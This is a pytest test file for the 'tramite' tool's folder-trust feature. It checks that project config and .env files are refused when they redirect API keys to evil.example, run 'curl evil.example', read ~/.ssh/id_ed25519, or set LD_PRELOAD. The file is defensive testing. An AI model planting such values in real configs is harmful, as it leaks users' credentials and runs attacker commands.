"""A folder's files as an attacker would write them, and what an honest folder may do without being trusted."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import pytest

from tests.config.world import World
from tramite.config import load, trust
from tramite.errors import ConfigError, UntrustedConfig

KEYS = {"OPENAI_API_KEY": "sk-mine-and-nobody-elses", "GITHUB_TOKEN": "ghp-not-for-models-at-all"}


@pytest.fixture
def world(tmp_path: Path) -> World:
    return World(tmp_path)


ATTACKS = [
    # (tramite.toml, .env, what the message must say)
    ("[providers.openai]\nbase_url = 'https://evil.example/v1'", "", "with your secret env:OPENAI_API_KEY"),
    ("[providers.openai]\nbase_url = 'http://api.openai.com/v1'", "", "http://api.openai.com/v1 instead of https://"),
    ("[providers.openai]\nbase_url = 'http://127.0.0.1:9/v1'", "", "with your secret env:OPENAI_API_KEY"),
    ("[providers.openai]\nbase_url = 'https://api.openai.com/v2'", "", "instead of https://api.openai.com/v1"),
    ("[providers.openai]\nendpoint = 'https://evil.example'", "", "https://evil.example/openai/v1"),
    ("[providers.groq]\nbase_url = 'https://evil.example/v1'", "", "what you ask groq to https://evil.example"),
    ("[providers.groq]\nbase_url = 'http://127.0.0.1:9/v1'\napi_key = 'env:OPENAI_API_KEY'", "", "OPENAI_API_KEY"),
    ("[providers.groq]\napi_key = 'env:OPENAI_API_KEY'", "", "send your secret env:OPENAI_API_KEY to groq"),
    ("[providers.openai]\napi_key = 'env:GITHUB_TOKEN'", "", "send your secret env:GITHUB_TOKEN to openai"),
    ("[providers.mine]\nbase_url = 'https://evil.example/v1'", "", "which it calls 'mine'"),
    ("[providers.mine]\nbase_url = 'https://evil.example/v1'\napi_key = 'env:GITHUB_TOKEN'", "", "env:GITHUB_TOKEN"),
    ("[providers.mine]\nbase_url = 'http://127.0.0.1:9/v1'\napi_key = 'env:GITHUB_TOKEN'", "", "env:GITHUB_TOKEN"),
    ("[providers.mine]\nbase_url = 'http://127.0.0.1.evil.example/v1'", "", "127.0.0.1.evil.example"),
    ("[providers.mine]\nbase_url = 'http://localhost.evil.example/v1'", "", "localhost.evil.example"),
    ("[providers.mine]\nbase_url = 'http://127.1/v1'", "", "http://127.1/v1"),
    ("[providers.mine]\nbase_url = 'http://2130706433/v1'", "", "http://2130706433/v1"),
    ("[providers.openai]\napi_key = 'command:curl evil.example'", "", "run the command 'curl evil.example'"),
    ("[providers.mine]\nbase_url = 'http://[::1]:9'\napi_key = 'command:id'", "", "run the command 'id'"),
    ("[providers.openai]\napi_key = 'file:~/.ssh/id_ed25519'", "", "/.ssh/id_ed25519'"),
    ("[providers.openai]\napi_key = 'keyring:bank'", "", "take 'bank' out of your keyring"),
    ("[providers.'llama.cpp']\nbase_url = 'http://evil.example/v1'", "", "what you ask llamacpp"),
    ("[providers.demo]\nbase_url = 'http://evil.example/v1'", "", "what you ask demo"),
    ("[providers.corp]\nbase_url = 'https://evil.example/v1'", "", "https://evil.example/v1 instead of https://corp"),
    ("[providers.corp]\napi_key = 'env:OPENAI_API_KEY'", "", "send your secret env:OPENAI_API_KEY to corp"),
    ("[store]\nurl = 'postgresql://evil.example/l'", "", "keep the ledger"),
    ("[store]\nurl = 'sqlite:////home/me/.profile'", "", "keep the ledger"),
    ("[state]\nurl = 'redis://evil.example/0'", "", "count limits at 'redis://evil.example/0'"),
    ("[gateway]\nhost = '0.0.0.0'", "", "open the gateway to other machines, at '0.0.0.0'"),
    ("[providers.local]\nallow_download = true", "", "fetch every model of local that is asked for"),
    ("", "OPENAI_BASE_URL=https://evil.example/v1", "with your secret env:OPENAI_API_KEY"),
    ("", "OPENAI_BASE_URL=http://127.0.0.1:9/v1", "with your secret env:OPENAI_API_KEY"),
    ("", "LMSTUDIO_URL=http://evil.example:1234", "what you ask lmstudio to http://evil.example:1234/v1"),
    ("", "OLLAMA_HOST=evil.example", "what you ask ollama to http://evil.example:11434/v1"),
    ("", "TRAMITE_STORE_URL=postgresql://evil.example/l", "keep the ledger"),
    ("", "TRAMITE_STATE_URL=redis://evil.example/0", "count limits"),
    ("", "TRAMITE_GATEWAY_HOST=0.0.0.0", "open the gateway"),
    ("default_model = 'mine/x'\n[providers.mine]\nbase_url = 'https://evil.example'", "", "https://evil.example"),
]


@pytest.mark.parametrize(("toml", "dotenv", "says"), ATTACKS)
def test_a_folder_that_wants_what_is_not_its_own_is_refused(world: World, toml: str, dotenv: str, says: str) -> None:
    world.own("[providers.corp]\nbase_url = 'https://corp.example/v1'\napi_key = 'env:CORP_KEY'")
    world.project(toml)
    world.dotenv(dotenv)
    with pytest.raises(UntrustedConfig) as caught:
        world.load(**KEYS, CORP_KEY="the-corporations-key")
    message = str(caught.value)
    assert says in message
    assert "tramite config trust" in message
    assert repr(str(world.folder)) in message
    assert not any(value in message for value in [*KEYS.values(), "the-corporations-key"])


@pytest.mark.parametrize(
    ("toml", "dotenv"),
    [
        ("", "OPENAI_API_KEY=sk-of-the-folder"),
        ("", "LMSTUDIO_URL=http://127.0.0.1:4321"),
        ("", "OPENAI_API_KEY=sk-of-the-folder\nOPENAI_BASE_URL=http://127.0.0.1:4321/v1"),
        ("[providers.openai]\nbase_url = 'http://127.0.0.1:9/v1'\napi_key = 'sk-written-out'", ""),
        ("[providers.openai]\napi_key = 'env:OPENAI_API_KEY'", ""),
        ("[providers.openai]\napi_key = 'env:FOLDER_KEY'", "FOLDER_KEY=of-the-folder"),
        ("[providers.mine]\nbase_url = 'http://127.0.0.1:9/v1'", ""),
        (
            "[providers.mine]\nbase_url = 'http://localhost:9/v1'\napi_key = 'env:FOLDER_KEY'",
            "FOLDER_KEY=of-the-folder",
        ),
        ("[providers.corp]\napi_key = 'env:CORP_KEY'", ""),
        ("[providers.corp]\nprefill = true", "CORP_KEY=ignored, the environment has it"),
        (
            "default_provider = 'groq'\n[routes.fast]\ntargets = ['openai/gpt-4o', 'corp/x']",
            "TRAMITE_DEFAULT_MODEL=fast",
        ),
        ("[retry]\nattempts = 2\n[timeouts]\nstall_s = 5\n[limits.openai]\nconcurrency = 2", ""),
        ("[state]\nurl = 'file'\n[gateway]\nhost = 'localhost'\nport = 4100", "TRAMITE_STATE_URL=memory"),
        ("", "HTTPS_PROXY=http://evil.example:3128\nSSL_CERT_FILE=evil.pem\nPATH=.\nLD_PRELOAD=./evil.so"),
    ],
)
def test_a_folder_may_use_its_own_values_and_this_machine(world: World, toml: str, dotenv: str) -> None:
    world.own("[providers.corp]\nbase_url = 'https://corp.example/v1'\napi_key = 'env:CORP_KEY'")
    world.project(toml)
    world.dotenv(dotenv)
    keys = {} if "sk-of-the-folder" in dotenv else KEYS
    before = dict(os.environ)
    world.load(**keys, CORP_KEY="the-corporations-key")
    assert dict(os.environ) == before


def test_stored_secrets_are_guarded_like_those_of_the_environment(world: World) -> None:
    world.store(OPENAI_API_KEY="sk-stored", OTHER="stored-too")
    world.dotenv("OPENAI_BASE_URL=http://127.0.0.1:9/v1")
    with pytest.raises(UntrustedConfig, match="stored:OPENAI_API_KEY"):
        world.load()
    world.dotenv("")
    world.project("[providers.mine]\nbase_url = 'http://127.0.0.1:9/v1'\napi_key = 'env:OTHER'")
    with pytest.raises(UntrustedConfig, match="stored:OTHER"):
        world.load()


def test_a_secret_of_the_users_own_file_is_guarded_whatever_its_source(world: World) -> None:
    for reference in ("sk-written-out-here", "command:vault read key", "file:key.txt", "keyring:corp"):
        world.own(f"[providers.corp]\nbase_url = 'https://corp.example/v1'\napi_key = '{reference}'")
        world.project("[providers.corp]\nbase_url = 'http://127.0.0.1:9/v1'")
        with pytest.raises(UntrustedConfig, match="what you ask corp, with your secret") as caught:
            world.load()
        assert "sk-written" not in str(caught.value)
        assert "vault read" not in str(caught.value)


def test_what_the_user_names_or_sets_in_the_environment_needs_no_trust(world: World) -> None:
    path = world.project("[providers.openai]\nbase_url = 'https://proxy.example/v1'")
    for config in (world.load(path, **KEYS), world.load(TRAMITE_CONFIG="tramite.toml", **KEYS)):
        assert config.providers["openai"].base_url == "https://proxy.example/v1"
    path.unlink()
    config = world.load(OPENAI_BASE_URL="https://proxy.example/v1", **KEYS)
    assert config.providers["openai"].base_url == "https://proxy.example/v1"


def test_dotenv_is_not_trusted_because_another_file_was_named(world: World) -> None:
    named = world.home / "named.toml"
    named.write_text("")
    world.dotenv("OPENAI_BASE_URL=https://evil.example/v1")
    with pytest.raises(UntrustedConfig):
        world.load(named, **KEYS)


def test_a_folder_that_is_trusted_may_do_all_of_it_until_a_file_changes(world: World) -> None:
    world.project("[providers.openai]\nbase_url = 'https://proxy.example/v1'")
    review = trust.review(world.environ, world.folder)
    assert not review.trusted
    assert review.wants == (
        "send what you ask openai to https://proxy.example/v1 instead of https://api.openai.com/v1",
    )
    trust.grant(review.project, world.environ)
    assert trust.review(world.environ, world.folder).trusted
    assert world.load(**KEYS).providers["openai"].base_url == "https://proxy.example/v1"
    world.dotenv("SOMETHING=new")
    with pytest.raises(UntrustedConfig):
        world.load(**KEYS)
    (world.folder / ".env").unlink()
    world.load(**KEYS)
    world.project("[providers.openai]\nbase_url = 'https://evil.example/v1'")
    with pytest.raises(UntrustedConfig, match=r"evil\.example"):
        world.load(**KEYS)


def test_trust_is_for_what_was_reviewed_and_not_for_what_came_after(world: World) -> None:
    world.project("[providers.openai]\nbase_url = 'https://proxy.example/v1'")
    review = trust.review(world.environ, world.folder)
    world.project("[providers.openai]\nbase_url = 'https://evil.example/v1'")
    trust.grant(review.project, world.environ)
    with pytest.raises(UntrustedConfig):
        world.load(**KEYS)


def test_moving_text_from_one_file_to_the_other_is_a_change(world: World) -> None:
    world.project("[state]\nurl='redis://a/0'\n")
    world.dotenv("A=1")
    trust.grant(trust.review(world.environ, world.folder).project, world.environ)
    world.project("[state]\nurl='redis://a/0'\nA=1")
    (world.folder / ".env").unlink()
    with pytest.raises(ConfigError):
        world.load()


def test_trust_belongs_to_the_folder_and_not_to_its_copy_or_its_name(world: World, tmp_path: Path) -> None:
    world.project("[providers.openai]\nbase_url = 'https://proxy.example/v1'")
    trust.grant(trust.review(world.environ, world.folder).project, world.environ)
    link = tmp_path / "link"
    link.symlink_to(world.folder)
    assert load(environ={**world.environ, **KEYS}, cwd=link).providers["openai"].base_url == "https://proxy.example/v1"
    copy = tmp_path / "copy"
    shutil.copytree(world.folder, copy)
    with pytest.raises(UntrustedConfig):
        load(environ={**world.environ, **KEYS}, cwd=copy)
    link.unlink()
    link.symlink_to(copy)
    with pytest.raises(UntrustedConfig):
        load(environ={**world.environ, **KEYS}, cwd=link)


def test_trust_can_be_taken_back(world: World) -> None:
    world.project("[providers.openai]\nbase_url = 'https://proxy.example/v1'")
    trust.grant(trust.review(world.environ, world.folder).project, world.environ)
    trust.revoke(world.folder, world.environ)
    with pytest.raises(UntrustedConfig):
        world.load(**KEYS)


def test_a_link_to_the_users_own_file_is_the_users_own_file(world: World) -> None:
    own = world.own("[providers.openai]\nbase_url = 'https://proxy.example/v1'")
    (world.folder / "tramite.toml").symlink_to(own)
    assert world.load(**KEYS).providers["openai"].base_url == "https://proxy.example/v1"


def test_standing_in_ones_own_folder_is_no_reason_for_distrust(world: World) -> None:
    world.own("[providers.openai]\nbase_url = 'https://proxy.example/v1'")
    config = load(environ={**world.environ, **KEYS}, cwd=world.home)
    assert config.providers["openai"].base_url == "https://proxy.example/v1"


def test_the_record_of_trust_is_the_users_alone_and_holds_no_content(world: World) -> None:
    world.project("[providers.openai]\nbase_url = 'https://proxy.example/v1'")
    trust.grant(trust.review(world.environ, world.folder).project, world.environ)
    path = world.home / "data" / "trusted.json"
    assert path.stat().st_mode & 0o777 == 0o600
    assert path.parent.stat().st_mode & 0o777 == 0o700
    assert list(json.loads(path.read_text())) == [str(world.folder)]
    path.write_text("not json")
    with pytest.raises(ConfigError, match="which folders are trusted"):
        world.load(**KEYS)


def test_what_a_folder_asks_for_cannot_paint_over_the_question(world: World) -> None:
    world.project('[providers.openai]\napi_key = "command:echo \u202eevil \u009b2J"')
    with pytest.raises(UntrustedConfig) as caught:
        world.load()
    assert r"'echo \u202eevil \x9b2J'" in str(caught.value)
    world.project('[providers.openai]\napi_key = "command:echo \\u001b[2J"')
    with pytest.raises(ConfigError, match=r"api_key"):
        world.load()


def test_a_folder_whose_name_is_no_unicode_can_be_trusted(tmp_path: Path) -> None:
    odd = tmp_path / os.fsdecode(b"odd-\xff")
    odd.mkdir()
    world = World(odd)
    world.project("[state]\nurl = 'redis://r.example/0'")
    trust.grant(trust.review(world.environ, world.folder).project, world.environ)
    assert world.load().state.url == "redis://r.example/0"
